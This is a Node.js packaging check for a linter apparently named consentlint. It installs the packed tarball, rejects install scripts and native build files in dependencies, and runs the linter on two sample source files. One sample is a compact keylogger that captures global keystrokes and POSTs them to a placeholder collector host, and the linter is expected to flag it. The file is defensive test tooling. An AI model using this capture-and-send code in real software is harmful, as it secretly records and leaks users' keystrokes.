/**
 * Checks the package as a user gets it: packs it, installs the tarball into an empty folder, and runs it there.
 */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { npm } from './npm.mjs';

const MAX_DEPENDENCIES = 10;
const INSTALL_SCRIPTS = ['preinstall', 'install', 'postinstall'];
const PACKED = ['package.json', 'README.md', 'LICENSE', 'bin', 'dist', 'rules', 'schema'];
const NEEDED = ['bin/consentlint.js', 'dist/catalogue.json', 'README.md', 'LICENSE'];

const UNGATED = `import { uIOhook } from 'uiohook-napi';

uIOhook.on('keydown', (event) => {
  void fetch('https://collector.example.invalid/keys', { method: 'POST', body: JSON.stringify({ key: event.keycode }) });
});
uIOhook.start();
`;
const CLEAN = `export function total(prices: readonly number[]): number {
  return prices.reduce((sum, price) => sum + price, 0);
}
`;

const root = dirname(dirname(fileURLToPath(import.meta.url)));
const { version, ...manifest } = readJson(join(root, 'package.json'));
const work = mkdtempSync(join(tmpdir(), 'consentlint-pack-'));
try {
  checkManifest();
  const home = installTarball(pack());
  checkInstalled(home);
  checkRuns(home);
  process.stdout.write(`pack-check: ok, consentlint ${version}\n`);
} catch (error) {
  process.stderr.write(`pack-check: failed: ${error.message}\n`);
  process.exitCode = 1;
} finally {
  rmSync(work, { recursive: true, force: true, maxRetries: 3 });
}

function checkManifest() {
  const { dependencies = {}, optionalDependencies = {}, scripts = {} } = manifest;
  const count = Object.keys({ ...dependencies, ...optionalDependencies }).length;
  ensure(count <= MAX_DEPENDENCIES, `${count} runtime dependencies, at most ${MAX_DEPENDENCIES} are allowed`);
  const own = INSTALL_SCRIPTS.filter((name) => name in scripts);
  ensure(own.length === 0, `package.json has install scripts: ${own.join(', ')}`);
  const locked = Object.entries(readJson(join(root, 'package-lock.json')).packages);
  const scripted = locked.filter(([, entry]) => entry.hasInstallScript && !entry.dev && !entry.devOptional);
  ensure(
    scripted.length === 0,
    `runtime dependencies with install scripts: ${scripted.map(([path]) => path).join(', ')}`,
  );
}

function pack() {
  run('npm pack', npm(['pack', '--pack-destination', work], { cwd: root }));
  const [name] = readdirSync(work).filter((file) => file.endsWith('.tgz'));
  ensure(name, 'npm pack left no tarball');
  return join(work, name);
}

function installTarball(tarball) {
  const home = join(work, 'home');
  mkdirSync(home);
  run('npm install', npm(['install', '--no-audit', '--no-fund', '--ignore-scripts', tarball], { cwd: home }));
  return home;
}

function checkInstalled(home) {
  const installed = join(home, 'node_modules', 'consentlint');
  for (const path of NEEDED) ensure(existsSync(join(installed, path)), `the tarball lacks ${path}`);
  const extra = readdirSync(installed).filter((name) => !PACKED.includes(name) && name !== 'node_modules');
  ensure(extra.length === 0, `the tarball holds what it should not: ${extra.join(', ')}`);
  for (const path of Object.keys(readJson(join(home, 'node_modules', '.package-lock.json')).packages)) {
    const { scripts = {} } = readJson(join(home, path, 'package.json'));
    const found = INSTALL_SCRIPTS.filter((name) => name in scripts);
    if (existsSync(join(home, path, 'binding.gyp'))) found.push('binding.gyp');
    ensure(found.length === 0, `${path} runs code on install: ${found.join(', ')}`);
  }
}

function checkRuns(home) {
  expectRun(home, ['--version'], 0, version);
  expectRun(home, ['scan', tree(home, 'ungated', UNGATED)], 1, 'ungated-capture');
  expectRun(home, ['scan', tree(home, 'clean', CLEAN)], 0);
}

function tree(home, name, text) {
  mkdirSync(join(home, name, 'src'), { recursive: true });
  writeFileSync(join(home, name, 'src', 'main.ts'), text);
  return name;
}

function expectRun(home, args, status, text = '') {
  const command = `npx consentlint ${args.join(' ')}`;
  const result = npm(['exec', '--offline', '--', 'consentlint', ...args], { cwd: home });
  ensure(result.status === status, `${command} ended with ${result.status}, not ${status}:\n${result.output}`);
  ensure(result.output.includes(text), `${command} does not print ${text}:\n${result.output}`);
}

function run(what, { status, output }) {
  ensure(status === 0, `${what} ended with ${status}:\n${output}`);
}

function ensure(holds, message) {
  if (!holds) throw new Error(message);
}

function readJson(path) {
  return JSON.parse(readFileSync(path, 'utf8'));
}
